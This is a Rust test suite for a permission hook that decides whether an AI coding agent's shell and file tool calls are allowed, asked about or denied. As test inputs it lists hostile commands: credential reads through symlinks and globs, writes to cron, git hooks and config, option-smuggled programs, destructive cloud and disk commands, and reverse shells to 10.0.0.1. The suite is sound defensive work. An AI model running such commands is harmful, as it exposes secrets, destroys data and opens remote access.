//! The command model through `sentinel hook`, on a real file system: a project with symlinks,
//! globs and protected places, a home with credentials, the project root the agent names. The
//! scratch dirs live under the target dir, never in /tmp (sentinel treats temp dirs as scratch
//! space, which would change the answers).

// Its fixtures make links, modes or Unix processes: run on Unix; on Windows only the
// library and binary are type-checked (release/check-windows.sh).
#![cfg(unix)]

mod common;

use serde_json::{Value, json};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

struct World {
    _root: tempfile::TempDir,
    home: PathBuf,
    project: PathBuf,
    sentinel_home: PathBuf,
}

impl World {
    fn new() -> World {
        let root = tempfile::Builder::new()
            .prefix("command-model")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .unwrap();
        let base = root.path().canonicalize().unwrap();
        let home = base.join("home/dev");
        let project = home.join("proj");
        let sentinel_home = base.join("sentinel-home");
        for d in [
            home.join(".aws"),
            home.join(".ssh"),
            home.join(".claude"),
            project.join("src"),
            project.join(".git/hooks"),
            project.join("scripts"),
            sentinel_home.clone(),
        ] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(home.join(".aws/credentials"), "[default]\n").unwrap();
        std::fs::write(home.join(".ssh/id_ed25519"), "key").unwrap();
        std::fs::write(project.join("src/main.rs"), "fn main() {}").unwrap();
        std::fs::write(project.join("scripts/test.sh"), "echo ok").unwrap();
        common::let_fixtures_age(&project);
        World {
            _root: root,
            home,
            project,
            sentinel_home,
        }
    }

    /// The decision for one tool call made in `cwd` (the project when None).
    fn decide(&self, tool: &str, input: Value, cwd: Option<&Path>, env: &[(&str, &str)]) -> String {
        let event = json!({
            "session_id": "s1",
            "hook_event_name": "PreToolUse",
            "cwd": cwd.unwrap_or(&self.project),
            // No gate of the agent's own, so an uncertain call is answered `ask` (not deferred)
            // and these tests see Tier 1's reason.
            "permission_mode": "bypassPermissions",
            "tool_name": tool,
            "tool_input": input,
        });
        let mut cmd = common::sentinel(&self.sentinel_home);
        cmd.arg("hook").env("HOME", &self.home);
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = common::feed(cmd, event.to_string().as_bytes());
        assert!(out.status.success(), "{out:?}");
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        let d = &v["hookSpecificOutput"];
        format!(
            "{}: {}",
            d["permissionDecision"].as_str().unwrap(),
            d["permissionDecisionReason"].as_str().unwrap()
        )
    }

    fn bash(&self, command: &str) -> String {
        self.decide("Bash", json!({ "command": command }), None, &[])
    }
}

fn verdict(answer: &str) -> &str {
    answer.split(':').next().unwrap()
}

#[test]
fn credentials_are_seen_through_symlinks_globs_and_pwd() {
    let w = World::new();
    symlink(w.home.join(".aws/credentials"), w.project.join("creds")).unwrap();
    symlink(w.home.join(".ssh"), w.project.join("keys")).unwrap();
    for command in [
        "cat creds",
        "head -5 keys/id_ed25519",
        "cat ~/.a?s/credentials",
        "cat $PWD/../.ssh/id_ed25519",
        "cat ~+/../.aws/credentials",
        "grep -r secret ~",
        "sort creds",
        "wc -l < creds",
    ] {
        let a = w.bash(command);
        assert_ne!(verdict(&a), "allow", "{command}: {a}");
    }
    let a = w.decide(
        "Read",
        json!({ "file_path": w.project.join("creds") }),
        None,
        &[],
    );
    assert_eq!(verdict(&a), "ask", "{a}");
    let a = w.decide(
        "Grep",
        json!({ "pattern": "x", "path": w.project.join("keys") }),
        None,
        &[],
    );
    assert_eq!(verdict(&a), "ask", "{a}");
    // What is not a credential stays allowed.
    for command in ["cat src/main.rs", "head -5 src/*.rs", "ls -la keys"] {
        let a = w.bash(command);
        assert_eq!(verdict(&a), "allow", "{command}: {a}");
    }
}

#[test]
fn writes_follow_dangling_symlinks_and_respect_protected_places() {
    let w = World::new();
    symlink(
        "/etc/cron.d/sentinel-test-never-created",
        w.project.join("job"),
    )
    .unwrap();
    let a = w.decide(
        "Write",
        json!({ "file_path": w.project.join("job"), "content": "* * * * * root id" }),
        None,
        &[],
    );
    assert_eq!(verdict(&a), "deny", "{a}");
    let a = w.bash("echo '* * * * * id' > job");
    assert_eq!(verdict(&a), "deny", "{a}");
    for (tool, path) in [
        ("Write", ".vscode/tasks.json"),
        ("Edit", ".git/config"),
        ("Write", ".envrc"),
        ("Write", ".mcp.json"),
        ("Write", ".git/hooks/pre-commit"),
    ] {
        let a = w.decide(
            tool,
            json!({ "file_path": w.project.join(path), "content": "x", "old_string": "a", "new_string": "b" }),
            None,
            &[],
        );
        assert_ne!(verdict(&a), "allow", "{tool} {path}: {a}");
    }
    for command in [
        "echo '[core] fsmonitor = evil' >> .git/config",
        "cp evil.sh .git/hooks/pre-commit",
        "sed -i s/a/b/ .envrc",
        "sort -o .vscode/tasks.json x",
    ] {
        let a = w.bash(command);
        assert_ne!(verdict(&a), "allow", "{command}: {a}");
    }
    let a = w.decide(
        "Write",
        json!({ "file_path": w.project.join("src/lib.rs"), "content": "x" }),
        None,
        &[],
    );
    assert_eq!(verdict(&a), "allow", "{a}");
}

#[test]
fn the_project_is_the_named_dir_or_the_git_top_level() {
    let w = World::new();
    let sub = w.project.join("src");
    // From a subdirectory, the project is the git top-level: `..` is still inside it.
    let a = w.decide(
        "Bash",
        json!({ "command": "mkdir -p ../build/out" }),
        Some(&sub),
        &[],
    );
    assert_eq!(verdict(&a), "allow", "{a}");
    // The agent's named project wins over a cwd that wandered outside it.
    let a = w.decide(
        "Bash",
        json!({ "command": "mkdir -p proj/build" }),
        Some(&w.home),
        &[("CLAUDE_PROJECT_DIR", w.project.to_str().unwrap())],
    );
    assert_eq!(verdict(&a), "allow", "{a}");
    let a = w.decide(
        "Bash",
        json!({ "command": "mkdir -p elsewhere" }),
        Some(&w.home),
        &[("CLAUDE_PROJECT_DIR", w.project.to_str().unwrap())],
    );
    assert_ne!(verdict(&a), "allow", "{a}");
    // A project file run as a program is the project's own tooling.
    let a = w.bash("./scripts/test.sh --fast");
    assert_eq!(verdict(&a), "allow", "{a}");
    let a = w.bash("bash scripts/test.sh");
    assert_ne!(verdict(&a), "deny", "{a}");
}

#[test]
fn option_spellings_are_read_as_the_program_reads_them() {
    let w = World::new();
    let settings = w.home.join(".claude/settings.json");
    let sh = w.sentinel_home.join("safe_commands.txt");
    for command in [
        format!("sort -o {} x", settings.display()),
        format!("sort --outp={} x", settings.display()),
        format!("sort -uo {} x", sh.display()),
        format!("sort --output {} x", sh.display()),
    ] {
        let a = w.bash(&command);
        assert_eq!(verdict(&a), "deny", "{command}: {a}");
    }
    for command in [
        "sort --compress-program=sh x",
        "sort -o /var/tmp/x y",
        "sort --frobnicate x",
    ] {
        let a = w.bash(command);
        assert_eq!(verdict(&a), "ask", "{command}: {a}");
    }
    let a = w.bash("sort -o sorted.txt src/main.rs");
    assert_eq!(verdict(&a), "allow", "{a}");
}

/// Every example the command-model issue names, through the hook as the agent runs it.
#[test]
fn the_examples_of_the_issue() {
    let w = World::new();
    // A person's file replaces the bundled one (until rules are layered), so it carries it.
    std::fs::write(
        w.sentinel_home.join("hard_block_commands.txt"),
        format!(
            "{}\n^deploy v\\d{{2}}( |$)   # a person's rule with a counted repeat\n^wipe \\x41LL   # and an escape\n",
            include_str!("../rules/hard_block_commands.txt")
        ),
    )
    .unwrap();
    let mut wrong = Vec::new();
    let mut check = |command: &str, want: &str| {
        let a = w.bash(command);
        let got = verdict(&a).to_string();
        let ok = match want {
            "not allow" => got != "allow",
            w => got == w,
        };
        if !ok {
            wrong.push(format!("{command}: want {want}, got {a}"));
        }
    };
    // Too loose: an allowed program with the wrong option.
    for c in [
        "sort --compress-program=sh x",
        "git grep -O evil foo",
        "git grep --open-files-in-pager=evil foo",
        "git fetch --upload-pa=evil origin",
        "pytest --junitxml=/home/dev/elsewhere/x.xml",
        "pytest --basetemp=/var/tmp/x",
        "go build -toolexec evil ./...",
        "go build -o /home/dev/elsewhere/bin ./cmd/x",
        "yq -i '.a = 1' ../other/config.yaml",
        "cat .jwt_secret",
        "cat android/keystore.properties",
        "cat /etc/shadow",
        "grep --file=../.aws/credentials x src",
        "echo x >> .envrc",
        "cp payload .vscode/tasks.json",
        "tee .mcp.json < x",
    ] {
        check(c, "not allow");
    }
    check("go build -o /usr/local/bin/x ./cmd/x", "deny");
    // `--forc` could be --force, --force-with-lease or --force-if-includes: git refuses it.
    check("git push --forc origin main", "not allow");
    // Too narrow: routine work is allowed.
    for c in [
        "git add src/main.rs",
        "git commit -m 'fix: parse flags'",
        "git checkout -b feature/x",
        "git stash",
        "git merge feature/x",
        "mkdir -p build/out",
        "cp src/main.rs src/main.rs.bak",
        "mv src/a.rs src/b.rs",
        "touch src/new.rs",
        "rm -rf dist",
        "sed -i 's/foo/bar/g' src/main.rs",
        "chmod +x scripts/test.sh",
        "npx tsc --noEmit",
        "npx eslint .",
        "npx prettier --write src",
        "npx vitest run",
        "npx jest",
        "./gradlew build",
        "mvn test",
        "dotnet test",
        "pnpm build",
        "yarn build",
        "bun run build",
        "ruff format .",
        "go run ./cmd/server",
        "php artisan test",
        "source .venv/bin/activate",
        "curl localhost:3000/health",
        "node --version",
        "npm ls",
        "pip list",
        "docker ps",
        "cargo test --workspace",
        "python -m pytest -q tests",
    ] {
        check(c, "allow");
    }
    // Destructive families: denied, with a reason and an alternative.
    for c in [
        "aws s3 rb --force s3://bucket",
        "aws s3 rm --recursive s3://bucket/data",
        "gcloud projects delete my-project",
        "az group delete -n prod-rg",
        "aws rds delete-db-instance --db-instance-identifier prod",
        "redis-cli FLUSHALL",
        "mongosh --eval 'db.dropDatabase()'",
        "psql -c 'TRUNCATE users'",
        "supabase db reset",
        "pulumi destroy",
        "terraform apply -auto-approve",
        "terraform state rm aws_instance.web",
        "kubectl drain node-1",
        "kubectl delete pv data",
        "kubectl delete pvc data",
        "kubectl delete ns staging",
        "kubectl delete pod web --force --grace-period=0",
        "helm uninstall web",
        "docker compose down -v",
        "docker volume rm $(docker volume ls -q)",
        "sgdisk --zap-all /dev/sda",
        "parted /dev/sda mklabel gpt",
        "wipefs -a /dev/sda",
        "lvremove vg0/data",
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "systemctl reboot",
        "systemctl poweroff",
        "init 0",
        "init 6",
        "gh repo delete owner/repo --yes",
        "git push --mirr origin",
        "git push -uf origin main",
        "deploy v12",
        "wipe ALL",
    ] {
        check(c, "deny");
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// `yarn NAME`, `pnpm NAME`, `bun NAME`: a script of the project's package.json is its tooling;
/// any other name is a dependency's program, judged by its own spec or left uncertain.
#[test]
fn package_managers_tell_scripts_from_dependency_programs() {
    let w = World::new();
    std::fs::write(
        w.project.join("package.json"),
        r#"{"name": "p", "scripts": {"build": "vite build", "lint": "eslint .", "deploy": "x"}}"#,
    )
    .unwrap();
    let home = w.home.display().to_string();
    for (command, expect) in [
        ("yarn build --watch".to_string(), "allow"),
        ("pnpm lint --fix".to_string(), "allow"),
        ("bun run build".to_string(), "allow"),
        ("bun tsc --noEmit".to_string(), "allow"),
        ("yarn eslint src".to_string(), "allow"),
        ("pnpm --filter web exec tsc --noEmit".to_string(), "allow"),
        // A deploy script, a program without a spec, a program that writes outside.
        ("yarn deploy".to_string(), "ask"),
        (format!("yarn rimraf {home}"), "ask"),
        ("pnpm kill-port 3000".to_string(), "ask"),
        ("bun prettier --write /var/tmp/x".to_string(), "ask"),
        (
            format!("yarn prettier --write {home}/.claude/settings.json"),
            "deny",
        ),
        // Another directory's package.json is not this project's.
        ("yarn --cwd /usr build".to_string(), "ask"),
    ] {
        let a = w.bash(&command);
        assert_eq!(verdict(&a), expect, "{command}: {a}");
    }
    // With no package.json a name is a program or unknown, never a script.
    std::fs::remove_file(w.project.join("package.json")).unwrap();
    let a = w.bash("yarn dev");
    assert_eq!(verdict(&a), "ask", "{a}");
}
